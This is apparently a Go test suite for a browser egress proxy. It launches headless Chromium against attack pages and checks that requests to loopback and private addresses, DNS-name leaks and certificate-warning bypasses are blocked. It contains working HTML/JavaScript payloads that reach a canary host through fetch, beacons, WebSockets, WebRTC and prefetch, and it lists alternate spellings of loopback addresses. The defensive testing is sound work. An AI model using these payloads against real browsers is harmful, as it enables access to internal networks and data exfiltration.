package egress

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/slimctl/slimctl/internal/need"
	"github.com/slimctl/slimctl/server/policy"
)

// The tests in this file drive a real Chromium, with SLIMCTL_LONG_TESTS=1
// and in CI.

// browser is a Chromium, spoken to over its DevTools socket.
type browser struct {
	t    *testing.T
	conn *websocket.Conn
	mu   sync.Mutex
	id   int
}

// startBrowser starts the command in argv with more flags and a profile of its
// own.
func startBrowser(t *testing.T, argv []string, flags ...string) *browser {
	t.Helper()
	profile, err := os.MkdirTemp("", "egress-chromium-")
	if err != nil {
		t.Fatal(err)
	}
	argv = append(argv, "--headless", "--no-sandbox", "--disable-gpu", "--remote-debugging-port=0", "--user-data-dir="+profile)
	cmd := exec.Command(argv[0], append(append(argv[1:], flags...), "about:blank")...)
	cmd.Env = append(os.Environ(), "TMPDIR="+profile) // killed, it leaves its socket's directory behind
	if err := need.Start(t, cmd); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		need.Kill(cmd)
		for range 20 { // its children may still be writing
			if os.RemoveAll(profile) == nil {
				return
			}
			time.Sleep(50 * time.Millisecond)
		}
	})
	for deadline := time.Now().Add(need.Patience); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		text, err := os.ReadFile(filepath.Join(profile, "DevToolsActivePort"))
		port, path, ok := strings.Cut(strings.TrimSpace(string(text)), "\n")
		if err != nil || !ok {
			continue
		}
		conn, _, err := websocket.Dial(t.Context(), "ws://127.0.0.1:"+port+path, nil)
		if err != nil {
			t.Fatal(err)
		}
		conn.SetReadLimit(16 << 20)
		t.Cleanup(func() { conn.CloseNow() })
		return &browser{t: t, conn: conn}
	}
	t.Fatalf("Chromium did not say its DevTools port within %s", need.Patience)
	return nil
}

type object map[string]any

// call makes one DevTools call; in a page if session is set.
func (b *browser) call(session, method string, params object) object {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.t.Context(), 3*need.Patience) // a renderer may have all attacks to load
	defer cancel()
	b.mu.Lock()
	defer b.mu.Unlock()
	b.id++
	request := object{"id": b.id, "method": method, "params": params}
	if session != "" {
		request["sessionId"] = session
	}
	text, err := json.Marshal(request)
	if err == nil {
		err = b.conn.Write(ctx, websocket.MessageText, text)
	}
	for err == nil {
		var answer struct {
			ID            int
			Result, Error object
		}
		if _, text, err = b.conn.Read(ctx); err != nil {
			break
		}
		if err = json.Unmarshal(text, &answer); err == nil && answer.ID == b.id {
			if answer.Error != nil {
				b.t.Logf("%s: %v", method, answer.Error)
			}
			return answer.Result
		}
	}
	b.t.Fatalf("%s: %v", method, err)
	return nil
}

// open opens a tab, in a context of its own if one is given.
func (b *browser) open(where, url string) (session string) {
	b.t.Helper()
	params := object{"url": "about:blank"}
	if where != "" {
		params["browserContextId"] = where
	}
	target, _ := b.call("", "Target.createTarget", params)["targetId"].(string)
	session, _ = b.call("", "Target.attachToTarget", object{"targetId": target, "flatten": true})["sessionId"].(string)
	b.call(session, "Page.navigate", object{"url": url})
	return session
}

// eval runs a script as if a person had clicked.
func (b *browser) eval(session, script string) any {
	b.t.Helper()
	r, _ := b.call(session, "Runtime.evaluate", object{"expression": script, "userGesture": true, "returnByValue": true, "awaitPromise": true})["result"].(map[string]any)
	return r["value"]
}

// trap is a canary for TCP, UDP and plain HTTP on one address.
type trap struct {
	tcp, udp string // ports
	mu       sync.Mutex
	hits     map[string]int
}

func (c *trap) hit(what string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hits[what]++
}

func (c *trap) all() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	var out []string
	for what := range c.hits {
		out = append(out, what)
	}
	sort.Strings(out)
	return out
}

// newTrap listens on l and on an UDP port of its address.
func newTrap(t *testing.T, l net.Listener) *trap {
	t.Helper()
	c := &trap{hits: map[string]int{}}
	srv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			c.hit(strings.TrimPrefix(r.URL.Path, "/"))
			w.Header().Set("Access-Control-Allow-Origin", "*")
			_, _ = io.WriteString(w, "SECRET")
		}),
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				c.hit("TCP")
			}
		},
	}
	go func() { _ = srv.Serve(l) }()
	u, err := net.ListenUDP("udp", &net.UDPAddr{IP: l.Addr().(*net.TCPAddr).IP})
	if err != nil {
		t.Fatal(err)
	}
	go func() {
		b := make([]byte, 2048)
		for {
			n, _, err := u.ReadFrom(b)
			if err != nil {
				return
			}
			switch { // QUIC's long header has the first bit, STUN neither of two
			case n > 0 && b[0]&0x80 != 0:
				c.hit("UDP-quic")
			default:
				c.hit("UDP-stun")
			}
		}
	}()
	t.Cleanup(func() { srv.Close(); u.Close() })
	_, c.tcp, _ = net.SplitHostPort(l.Addr().String())
	_, c.udp, _ = net.SplitHostPort(u.LocalAddr().String())
	return c
}

// The attacks. HOST:PORT is what must not be reached, UDP its UDP port. A page
// whose attack needs a click does it in go().
var attacks = map[string]string{
	"link":       `<a id=a href="http://HOST:PORT/link">x</a><script>go=()=>a.click()</script>`,
	"redirected": `<script>location='/redirect?http://HOST:PORT/redirected'</script>`,
	"refresh":    `<meta http-equiv=refresh content="0;url=http://HOST:PORT/refresh">`,
	"jsnav":      `<script>location='http://HOST:PORT/jsnav'</script>`,
	"replace":    `<script>location.replace('http://HOST:PORT/replace')</script>`,
	"form":       `<form id=f method=post action="http://HOST:PORT/form"><input name=a value=b></form><script>f.submit()</script>`,
	"formget":    `<form id=f target=_blank action="http://HOST:PORT/formget"></form><script>go=()=>f.submit()</script>`,
	"popup":      `<script>go=()=>{window.open('http://HOST:PORT/popup')}</script>`,
	"popup2":     `<script>go=()=>{let w=window.open('about:blank');w.location='http://HOST:PORT/popup2'}</script>`,
	"bloburl":    `<script>location=URL.createObjectURL(new Blob(['<img src="http://HOST:PORT/bloburl">'],{type:'text/html'}))</script>`,
	"many": `<img src="http://HOST:PORT/img"><script src="http://HOST:PORT/script"></script>
<link rel=stylesheet href="http://HOST:PORT/css"><link rel=prefetch href="http://HOST:PORT/prefetch">
<link rel=preload as=image href="http://HOST:PORT/preload"><link rel=icon href="http://HOST:PORT/icon"><link rel=manifest href="http://HOST:PORT/manifest">
<iframe src="http://HOST:PORT/iframe"></iframe><iframe src="/redirect?http://HOST:PORT/frameredirect"></iframe>
<iframe srcdoc='<img src="http://HOST:PORT/srcdoc">'></iframe><object data="http://HOST:PORT/object"></object><embed src="http://HOST:PORT/embed">
<video src="http://HOST:PORT/video"></video><svg><image href="http://HOST:PORT/svg"/></svg>
<style>@font-face{font-family:x;src:url(http://HOST:PORT/font)}p{font-family:x;background:url(http://HOST:PORT/bg)}</style><p>text</p>
<script>
let u='http://HOST:PORT/';
fetch(u+'fetch').catch(()=>{}); fetch(u+'nocors',{mode:'no-cors',method:'POST',body:'x'}).catch(()=>{});
fetch('/redirect?'+u+'fetchredirect').catch(()=>{}); fetch(u+'private',{targetAddressSpace:'loopback'}).catch(()=>{});
let x=new XMLHttpRequest();x.open('PUT',u+'xhr');x.send('x');
navigator.sendBeacon(u+'beacon','x');
new WebSocket('ws://HOST:PORT/ws'); new EventSource(u+'eventsource');
new Worker(URL.createObjectURL(new Blob(["fetch('"+u+"worker').catch(()=>{})"])));
import(u+'import').catch(()=>{});
let a=document.createElement('a');a.href=location.href+'#';a.ping=u+'ping';document.body.append(a);a.click();
</script>`,
	"preconnect": `<link rel=preconnect href="http://HOST:PORT/"><link rel=dns-prefetch href="http://HOST:PORT/">`,
	"speculate":  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://HOST:PORT/specprefetch"]}],"prerender":[{"source":"list","urls":["http://HOST:PORT/prerender"]}]}</script>`,
	"webrtc": `<script>
for(let s of ['stun:HOST:UDP','turn:HOST:UDP?transport=udp','turn:HOST:PORT?transport=tcp']){
let c=new RTCPeerConnection({iceServers:[{urls:s,username:'u',credential:'p'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))}
</script>`,
	"webrtcpeer": `<script>(async()=>{let c=new RTCPeerConnection(),d=new RTCPeerConnection();c.createDataChannel('x');let o=await c.createOffer();
await c.setLocalDescription(o);await d.setRemoteDescription(o);let a=await d.createAnswer();await d.setLocalDescription(a);await c.setRemoteDescription(a);
await c.addIceCandidate({candidate:'candidate:1 1 udp 2122260223 HOST UDP typ host',sdpMid:'0'});
await c.addIceCandidate({candidate:'candidate:2 1 tcp 1518280447 HOST PORT typ host tcptype passive',sdpMid:'0'})})()</script>`,
	"webtransport": `<script>try{new WebTransport('https://HOST:UDP/x').ready.catch(()=>{})}catch(e){}</script>`,
}

// spellings are other names for this machine; each gets an image, a frame and a
// navigation.
var spellings = []string{"localhost", "a.localhost", "127.1", "0x7f000001", "2130706433", "0.0.0.0", "[::ffff:127.0.0.1]", "[::1]", "internal.test", "mixed.test", "127.0.0.1"}

// arena is the "public" site with the attack pages, and the traps.
type arena struct {
	port  string
	traps []*trap
}

func newArena(t *testing.T) *arena {
	t.Helper()
	a := &arena{}
	ls := samePort(t, publicIP, "127.0.0.1", "::1") // the site's own port, for rebinding
	_, a.port, _ = net.SplitHostPort(ls[0].Addr().String())
	second := newTrap(t, samePort(t, canaryIP)[0])
	a.traps = []*trap{newTrap(t, ls[1]), second, newTrap(t, ls[2])}
	s := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, r.URL.RawQuery, http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		text := `<!doctype html><title>page</title><script>go=()=>0</script><body>` + attacks[strings.TrimPrefix(r.URL.Path, "/")]
		_, _ = io.WriteString(w, strings.NewReplacer("HOST", canaryIP, "PORT", second.tcp, "UDP", second.udp).Replace(text))
	}))
	s.Listener.Close()
	s.Listener = ls[0]
	s.Start()
	t.Cleanup(s.Close)
	return a
}

func (a *arena) hits() []string {
	var out []string
	for _, c := range a.traps {
		out = append(out, c.all()...)
	}
	sort.Strings(out)
	return slices.Compact(out)
}

// attack opens every attack page in the browser, and waits until done says that
// they did what they can.
func (a *arena) attack(b *browser, where string, done func() bool) {
	b.t.Helper()
	site := "http://site.test:" + a.port + "/"
	clicked, named := map[string]string{}, map[string]string{} // sessions
	for name, text := range attacks {
		session := b.open(where, site+name)
		if strings.Contains(text, "go=()=>") {
			clicked[session] = site + name
		}
	}
	for _, h := range spellings {
		named[h] = b.open(where, site)
		b.open(where, "http://"+h+":"+a.port+"/open-"+h)
	}
	flip := b.open(where, "http://flip.test:"+a.port+"/")
	b.loaded(flip, "http://flip.test:"+a.port+"/")
	for session, url := range clicked {
		b.loaded(session, url)
		b.eval(session, "go()")
	}
	for h, session := range named {
		b.loaded(session, site)
		b.eval(session, fmt.Sprintf(`for(let t of ['img','iframe']){let e=document.createElement(t);e.src='http://%s:%s/'+t+'-%s';document.body.append(e)};new WebSocket('ws://%s:%s/ws-%s');0`, h, a.port, h, h, a.port, h))
	}
	for range 4 {
		b.eval(flip, `fetch('/flip',{cache:'no-store'}).then(r=>r.text()).catch(e=>''+e)`)
	}
	b.call(flip, "Page.navigate", object{"url": "http://flip.test:" + a.port + "/flip"})
	for deadline := time.Now().Add(need.Patience); !done() && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
	}
}

// loaded waits until a page is there with all that it loads at once.
func (b *browser) loaded(session, url string) {
	b.t.Helper()
	var at any
	need.Eventually(b.t, func() bool {
		at = b.eval(session, "document.readyState+' '+location.href")
		return at == "complete "+url
	}, func() string { return fmt.Sprintf("%v, not %s", at, url) })
}

// lnaOff takes away Chromium's own guard of local addresses, so that it is the
// proxy that is tested.
const lnaOff = "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets,LocalNetworkAccessChecksWebRTC,LocalNetworkAccessChecksWebTransport"

// weaker adds to flags what makes the attacks stronger: no guard of Chromium's
// own, one process for all sites, which also saves a third of the time, and a
// site that may use what needs https.
func (a *arena) weaker(flags []string) []string {
	flags = append(slices.Clone(flags), "--disable-site-isolation-trials", "--renderer-process-limit=1",
		"--unsafely-treat-insecure-origin-as-secure=http://site.test:"+a.port)
	for i, f := range flags {
		if strings.HasPrefix(f, "--disable-features=") { // Chromium reads the last one only
			flags[i] += "," + lnaOff
			return flags
		}
	}
	return append(flags, "--disable-features="+lnaOff)
}

func attackLab(t *testing.T) *lab {
	l := newLab(t, nil)
	l.names.turns["internal.test"] = []string{"127.0.0.1"}
	l.names.turns["mixed.test"] = []string{publicIP + " 127.0.0.1"}
	l.names.turns["flip.test"] = []string{publicIP, publicIP, "127.0.0.1", publicIP, "127.0.0.1"}
	return l
}

// wantSafe attacks, and checks that the browser did get to the site, and
// nowhere else.
func wantSafe(t *testing.T, l *lab, a *arena, b *browser, where string) {
	t.Helper()
	a.attack(b, where, func() bool {
		rules, _ := l.rules()
		return took(rules)
	})
	time.Sleep(3 * time.Second) // what else they may try
	if hits := a.hits(); len(hits) > 0 {
		t.Errorf("reached: %v", hits)
	}
	rules, outside := l.rules()
	if !took(rules) {
		t.Errorf("the attacks did not take place: %v", rules)
	}
	t.Logf("decisions: %v; the browser's own hosts: %v", rules, outside)
}

// took reports whether the attacks took place.
func took(rules map[string]int) bool {
	return rules["allowed site.test"] >= len(attacks) && rules["allowed flip.test"] > 0 && rules["url.loopback"] > 0 && rules["url.private"] > 0
}

// rules counts the decisions, and hosts that have no address.
func (l *lab) rules() (rules, outside map[string]int) {
	rules, outside = map[string]int{}, map[string]int{}
	for _, d := range l.decisions() {
		if d.Allowed && !d.Done {
			rules["allowed "+d.Host]++
		} else if !d.Allowed {
			rules[d.Rule]++
			if d.Rule == "url.unresolved" {
				outside[d.Host]++
			}
		}
	}
	return rules, outside
}

func TestAttack(t *testing.T) {
	chromium := need.Chromium(t)

	// Without the proxy nearly all of it arrives: the traps count.
	t.Run("control", func(t *testing.T) {
		t.Parallel()
		a := newArena(t)
		names := fmt.Sprintf("--host-resolver-rules=MAP site.test %s,MAP internal.test 127.0.0.1,MAP mixed.test 127.0.0.1,MAP flip.test 127.0.0.1", publicIP)
		b := startBrowser(t, []string{chromium}, append(a.weaker(nil), names, "--no-proxy-server")...)
		var missing []string
		wanted := []string{
			"link", "redirected", "refresh", "jsnav", "replace", "form", "formget", "popup", "popup2", "bloburl",
			"img", "script", "css", "prefetch", "iframe", "frameredirect", "srcdoc", "object", "embed", "font", "bg", "fetch", "nocors", "fetchredirect",
			"xhr", "beacon", "ws", "eventsource", "worker", "import", "ping", "flip", "TCP", "UDP-stun", "UDP-quic", "open-localhost", "img-internal.test", "ws-[::1]",
		}
		a.attack(b, "", func() bool {
			hits := a.hits()
			missing = slices.DeleteFunc(slices.Clone(wanted), func(want string) bool { return slices.Contains(hits, want) })
			return len(missing) == 0
		})
		if len(missing) > 0 {
			t.Errorf("did not arrive: %v", missing)
		}
		t.Logf("arrived: %v", a.hits())
	})

	t.Run("flags", func(t *testing.T) {
		t.Parallel()
		l, a := attackLab(t), newArena(t)
		pol := policy.Default()
		pol.Egress.Proxy = l.addr
		b := startBrowser(t, []string{chromium}, a.weaker(Flags(pol))...)
		wantSafe(t, l, a, b, "")
	})

	// A session's own context in a browser that knows no proxy. WebRTC belongs to
	// the browser, so its flag has to be there.
	t.Run("context", func(t *testing.T) {
		t.Parallel()
		l, a := attackLab(t), newArena(t)
		b := startBrowser(t, []string{chromium}, a.weaker([]string{"--webrtc-ip-handling-policy=disable_non_proxied_udp"})...)
		where, _ := b.call("", "Target.createBrowserContext", object{"proxyServer": "http://" + l.addr, "proxyBypassList": bypass})["browserContextId"].(string)
		wantSafe(t, l, a, b, where)
	})
}

// managed returns a command that starts Chromium where the policy of an egress
// proxy at addr is installed: in a mount namespace, for that Chromium only.
func managed(t *testing.T, chromium string, pol *policy.Policy, allow ...string) []string {
	t.Helper()
	if err := exec.Command("unshare", "--mount", "true").Run(); err != nil {
		need.Missing(t, "no mount namespace (needs root): %v", err)
	}
	etc := t.TempDir()
	dir := filepath.Join(etc, "policies", "managed")
	text, err := Managed(pol)
	if err == nil {
		list := []byte(`"URLAllowlist": [`)
		for _, url := range allow {
			text = bytes.Replace(text, list, fmt.Appendf(list, "%q,", url), 1)
		}
		err = os.MkdirAll(dir, 0o755)
	}
	if err == nil {
		err = os.WriteFile(filepath.Join(dir, "browser-shell.json"), text, 0o644)
	}
	if err != nil {
		t.Fatal(err)
	}
	return instead(etc, "/etc/chromium", chromium)
}

// instead returns a command that runs a program for which path is another one.
func instead(other, path string, command ...string) []string {
	return append([]string{"unshare", "--mount", "sh", "-c", `mount --bind "$0" "$1" && shift && exec "$@"`, other, path}, command...)
}

func TestManagedPolicy(t *testing.T) {
	chromium := need.Chromium(t)
	l, a := attackLab(t), newArena(t)
	pol := policy.Default()
	pol.Egress.Proxy = l.addr
	b := startBrowser(t, managed(t, chromium, pol, "chrome://policy"), a.weaker(nil)...)

	t.Run("attack", func(t *testing.T) {
		wantSafe(t, l, a, b, "")
	})

	// Each setting is known to this Chromium and in force.
	t.Run("honoured", func(t *testing.T) {
		page := b.open("", "chrome://policy")
		const script = `(()=>{let out=[];const walk=r=>{for(const e of r.querySelectorAll('*')){if(e.tagName=='POLICY-ROW'&&e.shadowRoot){const s=e.shadowRoot;
out.push([s.querySelector('.name')?.textContent.trim(),s.querySelector('.value')?.textContent.trim(),s.querySelector('.messages')?.textContent.trim()].join('|'))}
if(e.shadowRoot)walk(e.shadowRoot)}};walk(document);return out})()`
		var rows []any
		need.Eventually(t, func() bool {
			rows, _ = b.eval(page, script).([]any)
			return len(rows) > 30
		}, func() string { return fmt.Sprint(rows) })
		status := map[string]string{}
		for _, row := range rows {
			if f := strings.Split(fmt.Sprint(row), "|"); len(f) == 3 {
				status[f[0]] = f[2]
			}
		}
		text, err := Managed(pol)
		if err != nil {
			t.Fatal(err)
		}
		var want map[string]any
		if err := json.Unmarshal(text, &want); err != nil {
			t.Fatal(err)
		}
		for name := range want { // a deprecated one still works
			if s := status[name]; s != "OK" && s != "Deprecated" {
				t.Errorf("%s: %q", name, s)
			}
		}
	})

	t.Run("schemes", func(t *testing.T) {
		site := "http://site.test:" + a.port + "/"
		for _, u := range []string{"file:///etc/hostname", "view-source:" + site, "chrome://version", "chrome://settings", "devtools://devtools/bundled/inspector.html", "mailto:a@b.c", "x-unknown:1"} {
			if !b.refused(u) {
				t.Errorf("%s was opened", u)
			}
		}
		if b.refused(site) {
			t.Error("the site was not opened")
		}
	})

	// The sessions' own contexts work under the policy.
	t.Run("context", func(t *testing.T) {
		where, _ := b.call("", "Target.createBrowserContext", object{"proxyServer": "http://" + l.addr, "proxyBypassList": bypass})["browserContextId"].(string)
		page := b.open(where, "http://site.test:"+a.port+"/")
		var title any
		need.Eventually(t, func() bool {
			title = b.eval(page, "document.title")
			return title == "page"
		}, func() string { return fmt.Sprintf("context %q, title %v", where, title) })
	})
}

// refused reports whether Chromium's policy keeps an address from being opened.
func (b *browser) refused(url string) bool {
	b.t.Helper()
	page, text := b.open("", url), ""
	for deadline := time.Now().Add(need.Patience); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		text, _ = b.eval(page, "location.href+' '+document.documentElement.outerText").(string)
		switch {
		case strings.HasPrefix(text, "chrome-error:"):
			if strings.Contains(text, "This page is blocked") {
				return true
			}
			if strings.Contains(text, "ERR_") || strings.Contains(text, "HTTP ERROR") { // the proxy's
				return false
			}
		case url == "about:blank" || text != "" && !strings.HasPrefix(text, "about:blank"):
			return false
		}
	}
	b.t.Errorf("%s was neither opened nor refused: %q", url, text)
	return false
}

// TestPageCannotReadWhy: a page whose own host is refused now reads neither which rule it was nor what the name led to, even
// when it sends what slimctl's own proxies send.
func TestPageCannotReadWhy(t *testing.T) {
	chromium := need.Chromium(t)
	l := newLab(t, nil)
	port := serve(t, publicIP, func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, "<title>page</title>") })
	l.names.turns["flip.test"] = []string{publicIP, "10.0.0.1"}
	pol := policy.Default()
	pol.Egress.Proxy = l.addr
	b := startBrowser(t, []string{chromium}, Flags(pol)...)
	page := b.open("", "http://flip.test:"+port+"/")
	need.Eventually(t, func() bool { return b.eval(page, "document.title") == "page" }, func() string { return "no page" })
	const script = `(async () => {
	const read = async r => r.status + ' ' + JSON.stringify([...r.headers]) + await r.text();
	return await read(await fetch('/x')) + await read(await fetch('/x', {headers: {'Proxy-Browser-Shell-Refusal': 'tell', 'Sec-Fetch-Dest': 'document'}}));
})()`
	got, _ := b.eval(page, script).(string)
	if !strings.HasPrefix(got, "403 ") || strings.Contains(got, "url.") || strings.Contains(got, "POLICY") {
		t.Errorf("a page reads %s", got)
	}
}

// TestWarningStays: nobody gets past the warning of a wrong certificate, an agent or a person. Without the policy the same
// script does.
func TestWarningStays(t *testing.T) {
	chromium := need.Chromium(t)
	l := newLab(t, nil)
	port, _ := serveTLS(t, publicIP, func(w http.ResponseWriter, r *http.Request) { _, _ = io.WriteString(w, "<title>forged</title>") })
	pol := policy.Default()
	pol.Egress.Proxy = l.addr
	const proceed = `(document.querySelector('#details-button')||document.body).click();document.querySelector('#proceed-link')?.click();
globalThis.certificateErrorPageController?.proceed();location.protocol+document.title+document.documentElement.outerText`
	for name, argv := range map[string][]string{"control": {chromium}, "managed": managed(t, chromium, pol)} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := startBrowser(t, argv, Flags(pol)...)
			page, text := b.open("", "https://site.test:"+port+"/"), ""
			warned := 0
			need.Eventually(t, func() bool {
				text, _ = b.eval(page, proceed).(string)
				if strings.HasPrefix(text, "chrome-error:") && strings.Contains(text, "ERR_CERT_") {
					warned++
				}
				return strings.HasPrefix(text, "https:") || name == "managed" && warned >= 20
			}, func() string { return fmt.Sprintf("warned %d times, then %q", warned, text) })
			if passed := strings.HasPrefix(text, "https:forged"); passed != (name == "control") {
				t.Errorf("passed the warning: %v; %q", passed, text)
			}
		})
	}
}

func TestManagedHostList(t *testing.T) {
	chromium := need.Chromium(t)
	pol := policy.Default()
	pol.Open.AllowHosts = []string{"site.test", "8.8.8.8", "*.under.test"}
	l, a := newLab(t, func(p *policy.Policy) { p.Open = pol.Open }), newArena(t)
	l.names.turns["a.under.test"] = []string{publicIP}
	pol.Egress.Proxy = l.addr
	b := startBrowser(t, managed(t, chromium, pol))
	for url, refused := range map[string]bool{
		"http://site.test:" + a.port + "/":    false,
		"http://a.under.test:" + a.port + "/": false,
		"http://8.8.8.8/":                     false, // Chromium lets it through, and the test's proxy does not
		"http://x.site.test/":                 true,
		"http://other.test/":                  true,
		"https://127.0.0.1/":                  true,
		"data:text/html,x":                    false,
		"chrome://version":                    true,
		"tel:1":                               true,
		"file:///etc/hostname":                true,
		"about:blank":                         false,
	} {
		if b.refused(url) != refused {
			t.Errorf("%s: refused is not %v", url, refused)
		}
	}
}

// Chromium asks no name server: a name alone can carry data out.
func TestNoNames(t *testing.T) {
	chromium := need.Chromium(t)
	address := fmt.Sprintf("127.77.%d.%d", os.Getpid()>>8&255, os.Getpid()&255) // another run has its own
	server, err := net.ListenPacket("udp", address+":53")
	if err != nil {
		need.Missing(t, "no name server of our own (needs root): %v", err)
	}
	defer server.Close()
	var mu sync.Mutex
	var asked []string
	go func() {
		b := make([]byte, 2048)
		for {
			n, _, err := server.ReadFrom(b)
			if err != nil {
				return
			}
			mu.Lock()
			asked = append(asked, strings.Map(func(r rune) rune {
				if r < ' ' || r > '~' {
					return '.'
				}
				return r
			}, string(b[min(12, n):n])))
			mu.Unlock()
		}
	}()
	conf := filepath.Join(t.TempDir(), "resolv.conf")
	if err := os.WriteFile(conf, []byte("nameserver "+address+"\noptions timeout:1 attempts:1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := exec.Command("unshare", "--mount", "true").Run(); err != nil {
		need.Missing(t, "no mount namespace (needs root): %v", err)
	}
	const leaks = `<link rel=dns-prefetch href="//prefetch.TAG.leak.example"><link rel=preconnect href="https://preconnect.TAG.leak.example">
<img src="http://img.TAG.leak.example/"><a href="http://link.TAG.leak.example">x</a><script>
let c=new RTCPeerConnection({iceServers:[{urls:['stun:stun.TAG.leak.example:3478','turn:turn.TAG.leak.example?transport=tcp'],username:'u',credential:'p'}]});
c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o));
try{new WebTransport('https://transport.TAG.leak.example:4433/')}catch(e){}; new WebSocket('wss://socket.TAG.leak.example/')</script>`
	port := serve(t, publicIP, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, "<!doctype html>"+strings.ReplaceAll(leaks, "TAG", r.URL.Path[1:]))
	})
	l := newLab(t, nil)
	pol := policy.Default()
	pol.Egress.Proxy = l.addr
	secure := "--unsafely-treat-insecure-origin-as-secure=http://site.test:" + port
	names := func(tag string) (out []string) {
		mu.Lock()
		defer mu.Unlock()
		for _, name := range asked {
			if strings.Contains(name, tag) {
				out = append(out, name)
			}
		}
		return out
	}
	// look opens the page and waits until it did what it can, and for what else
	// it may try.
	look := func(b *browser, where, site, tag string, done func() bool) []string {
		t.Helper()
		b.open(where, "http://"+site+":"+port+"/"+tag)
		need.Eventually(t, done, func() string { return tag + ": no attempt was seen" })
		time.Sleep(3 * time.Second)
		return names(tag)
	}
	tried := func(tag string) func() bool {
		return func() bool {
			return slices.ContainsFunc(l.decisions(), func(d Decision) bool { return d.Host == "turn."+tag+".leak.example" })
		}
	}
	nameserver := instead(conf, "/etc/resolv.conf", chromium)
	look(startBrowser(t, nameserver, "--no-proxy-server"), "", publicIP, "control", func() bool { return len(names("control")) >= 3 })
	if got := look(startBrowser(t, nameserver, append(Flags(pol), secure)...), "", "site.test", "flags", tried("flags")); len(got) > 0 {
		t.Errorf("with the flags: %q", got)
	}
	both := append(instead(conf, "/etc/resolv.conf"), managed(t, chromium, pol)...)
	if got := look(startBrowser(t, both, secure), "", "site.test", "managed", tried("managed")); len(got) > 0 {
		t.Errorf("with the managed policy: %q", got)
	}
	// A context's proxy alone is not enough.
	b := startBrowser(t, nameserver, secure)
	where, _ := b.call("", "Target.createBrowserContext", object{"proxyServer": "http://" + l.addr, "proxyBypassList": bypass})["browserContextId"].(string)
	t.Logf("with a context's proxy alone: %q", look(b, where, "site.test", "context", func() bool { return true }))
}
